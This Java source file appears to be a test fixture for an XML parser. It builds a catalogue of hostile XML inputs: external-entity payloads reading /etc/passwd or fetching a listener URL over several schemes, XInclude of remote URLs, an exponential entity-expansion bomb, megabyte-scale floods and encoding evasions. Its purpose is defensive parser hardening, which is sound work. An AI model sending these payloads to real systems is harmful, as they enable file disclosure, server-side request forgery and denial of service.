package io.parlance.dialect.highq;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.nio.charset.Charset;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * Documents made to read files, to reach other servers or to wear this one out: a correct request with something added.
 *
 * @param root name of the root
 * @param content a correct request, with a place for something
 * @param url where somebody listens
 */
record XmlAttacks(String root, String content, String url) {
    private static final String XINCLUDE = "http://www.w3.org/2001/XInclude";

    /** By name, to be told apart. */
    Map<String, byte[]> all() {
        var attacks = new LinkedHashMap<String, byte[]>();
        documentTypes().forEach((name, document) -> attacks.put(name, document.getBytes(UTF_8)));
        floods().forEach((name, document) -> attacks.put(name, document.getBytes(UTF_8)));
        malformed().forEach((name, document) -> attacks.put(name, document.getBytes(UTF_8)));
        attacks.putAll(encodings());
        return attacks;
    }

    private Map<String, String> documentTypes() {
        var attacks = new LinkedHashMap<String, String>();
        attacks.put("empty document type", "<!DOCTYPE " + root + ">" + with(""));
        attacks.put("entity", declaring("<!ENTITY a \"b\">", "&a;"));
        attacks.put("unused entity", declaring("<!ENTITY a \"b\">", ""));
        attacks.put("file", declaring("<!ENTITY a SYSTEM \"file:///etc/passwd\">", "&a;"));
        attacks.put("external entity", declaring("<!ENTITY a SYSTEM \"" + url + "\">", "&a;"));
        attacks.put("public entity", declaring("<!ENTITY a PUBLIC \"x\" \"" + url + "\">", "&a;"));
        attacks.put("parameter entity", declaring("<!ENTITY % a SYSTEM \"" + url + "\"> %a;", ""));
        attacks.put("unparsed entity", declaring("<!NOTATION n SYSTEM \"" + url + "\">", ""));
        attacks.put("external subset", "<!DOCTYPE " + root + " SYSTEM \"" + url + "\">" + with(""));
        attacks.put("public subset", "<!DOCTYPE " + root + " PUBLIC \"-//W3C//DTD\" \"" + url + "\">" + with(""));
        for (var scheme : new String[] {"file", "ftp", "jar:http", "netdoc"}) {
            var elsewhere = url.replaceFirst("^http", scheme) + (scheme.startsWith("jar") ? "!/a" : "");
            attacks.put(
                    "external subset by " + scheme, "<!DOCTYPE " + root + " SYSTEM '" + elsewhere + "'>" + with(""));
            attacks.put("entity by " + scheme, declaring("<!ENTITY a SYSTEM '" + elsewhere + "'>", "&a;"));
            attacks.put("parameter by " + scheme, declaring("<!ENTITY % a SYSTEM '" + elsewhere + "'>%a;", ""));
        }
        attacks.put("entities that grow", growing());
        attacks.put("entity used often", declaring("<!ENTITY a \"" + "b".repeat(50_000) + "\">", "&a;".repeat(50_000)));
        attacks.put("entity within itself", declaring("<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">", "&a;"));
        attacks.put("attribute with a default", declaring("<!ATTLIST html a CDATA \"b\">", ""));
        attacks.put("undeclared entity", with("&nbsp;"));
        return attacks;
    }

    private Map<String, String> floods() {
        var attacks = new LinkedHashMap<String, String>();
        attacks.put("depth", with("<a>".repeat(10_000) + "</a>".repeat(10_000)));
        attacks.put("attributes", with("<a" + numbered(100_000, " a%d='b'") + "/>"));
        attacks.put("prefixes", with("<a" + numbered(100_000, " xmlns:a%d='b'") + "/>"));
        attacks.put("siblings", with("<a/>".repeat(200_000)));
        attacks.put("names", with(numbered(100_000, "<a%d/>")));
        attacks.put("text", with("a".repeat(1_000_001)));
        attacks.put("CDATA", with("<![CDATA[" + "a".repeat(1_000_001) + "]]>"));
        attacks.put("text in parts", with(("<![CDATA[" + "a".repeat(100) + "]]>b").repeat(10_000)));
        attacks.put("attribute value", with("<a b='" + "c".repeat(1_000_000) + "'/>"));
        attacks.put("name", with("<" + "a".repeat(1_000_000) + "/>"));
        attacks.put("namespace", with("<a xmlns='" + "b".repeat(1_000_000) + "'/>"));
        return attacks;
    }

    /** So many of everything that they are megabytes. */
    List<String> millions() {
        return List.of(
                with("<a" + numbered(1_000_000, " a%d='b'") + "/>"),
                with("<a>".repeat(1_000_000)),
                with("<?a b?>".repeat(1_000_000)),
                with(numbered(1_000_000, "<?a%d?>")));
    }

    private Map<String, String> malformed() {
        var attacks = new LinkedHashMap<String, String>();
        attacks.put("inclusion", with("<i:include xmlns:i='" + XINCLUDE + "' href='" + url + "'/>"));
        attacks.put("inclusion by the default", with("<include xmlns='" + XINCLUDE + "' href='" + url + "'/>"));
        attacks.put("fallback", with("<x:fallback xmlns:x='" + XINCLUDE + "'/>"));
        attacks.put("undeclared prefix", with("<a:b/>"));
        attacks.put("prefix bound twice", with("<a xmlns:b='c' xmlns:b='d'/>"));
        attacks.put("xml prefix of another namespace", with("<a xmlns:xml='b'/>"));
        attacks.put("xmlns declared", with("<a xmlns:xmlns='b'/>"));
        attacks.put("two names of one attribute", with("<a xmlns:b='d' xmlns:c='d' b:e='' c:e=''/>"));
        attacks.put("two roots", with("") + with(""));
        attacks.put("text behind the root", with("") + "x");
        attacks.put("cut off", with("").substring(0, 40));
        attacks.put("NUL", with("&#0;"));
        attacks.put("half a character", with("&#xd800;"));
        attacks.put("declaration in the middle", with("<?xml version='1.0'?>"));
        return attacks;
    }

    private Map<String, byte[]> encodings() {
        var attacks = new LinkedHashMap<String, byte[]>();
        var doctype = "<!DOCTYPE " + root + " SYSTEM \"" + url + "\">" + with("");
        attacks.put("document type in UTF-16", doctype.getBytes(UTF_16));
        attacks.put("document type in EBCDIC", (declared("IBM037") + doctype).getBytes(Charset.forName("IBM037")));
        attacks.put("document type in UTF-7", (declared("UTF-7") + seven(doctype)).getBytes(UTF_8));
        attacks.put("UTF-7 that is not declared", seven(doctype).getBytes(UTF_8));
        attacks.put("UTF-8 that is called UTF-16", (declared("UTF-16") + with("")).getBytes(UTF_8));
        attacks.put("UTF-16 that is called UTF-8", (declared("UTF-8") + with("")).getBytes(UTF_16));
        attacks.put("Latin-1 that is called UTF-8", (declared("UTF-8") + with("é")).getBytes(ISO_8859_1));
        attacks.put("unknown encoding", (declared("x-none") + with("")).getBytes(UTF_8));
        attacks.put("overlong UTF-8", replaced(with("@"), new byte[] {(byte) 0xc0, (byte) 0xbc}));
        return attacks;
    }

    /** A correct request with something in its content. */
    String with(String something) {
        return content.formatted(something);
    }

    private String declaring(String declarations, String use) {
        return "<!DOCTYPE " + root + " [" + declarations + "]>" + with(use);
    }

    private String growing() {
        var entities = IntStream.range(1, 30)
                .mapToObj(i -> "<!ENTITY e%d \"&e%d;&e%d;\">".formatted(i, i - 1, i - 1))
                .collect(Collectors.joining());
        return declaring("<!ENTITY e0 \"boom\">" + entities, "&e29;");
    }

    private static String declared(String encoding) {
        return "<?xml version=\"1.0\" encoding=\"" + encoding + "\"?>";
    }

    private static String seven(String text) {
        return text.replace("<", "+ADw-").replace(">", "+AD4-").replace("!", "+ACE-");
    }

    private static byte[] replaced(String text, byte[] bytes) {
        return text.replace("@", new String(bytes, ISO_8859_1)).getBytes(ISO_8859_1);
    }

    private static String numbered(int count, String format) {
        return IntStream.range(0, count).mapToObj(format::formatted).collect(Collectors.joining());
    }
}
